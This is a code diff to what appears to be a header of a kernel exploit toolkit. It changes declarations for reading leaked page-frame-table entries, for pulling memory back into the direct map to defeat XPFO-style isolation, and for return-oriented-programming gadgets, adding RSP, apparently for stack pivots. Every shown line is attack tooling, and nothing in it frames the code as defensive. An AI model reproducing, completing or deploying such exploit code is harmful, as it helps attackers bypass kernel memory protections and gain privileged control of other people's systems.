@@ -111,7 +111,8 @@ void attack_stock_replace(const struct bw_stock *stock, uint64_t pfn, uint64_t b
 
 /* What the kernel's books say of a frame, but for the frame's place in lists. */
 struct attack_frame_books {
-	uint64_t place, state, links;    /* of its entry in the frame table, 16 bytes */
+	uint64_t place, state;            /* of its entry in the frame table, 8 bytes */
+	uint64_t links_place, links;      /* the same beside it */
 	uint64_t history_place, history; /* what it was before */
 };
 void attack_frame_books_read(const struct bw_leak *leak, uint64_t pfn,
@@ -187,6 +188,11 @@ struct attack_frame {
 };
 
 /*
+ * Where variants of XPFO have kept most of free memory out of the direct map, brings some of it
+ * back there: for attacks that must find such frames to succeed.
+ */
+void attack_frames_reveal(void);
+/*
  * A frame that this process gave back, that is in the direct map, and that its next 4 KiB page will
  * have. False: the variant of XPFO does not put it there, or keeps frames in a cache before it.
  */
@@ -242,7 +248,7 @@ struct gadget {
 	uint64_t at_return;    /* that of its last instruction, the ret */
 	unsigned int nr_extra; /* further words that it pops */
 };
-enum gadget_register { GADGET_RSI = 6, GADGET_RDI = 7 };
+enum gadget_register { GADGET_RSP = 4, GADGET_RSI = 6, GADGET_RDI = 7 };
 
 /* Ends the attack where there is no memory for a copy. Nothing is read yet. */
 void gadget_text_open(struct gadget_text *text, const struct bw_leak *leak);
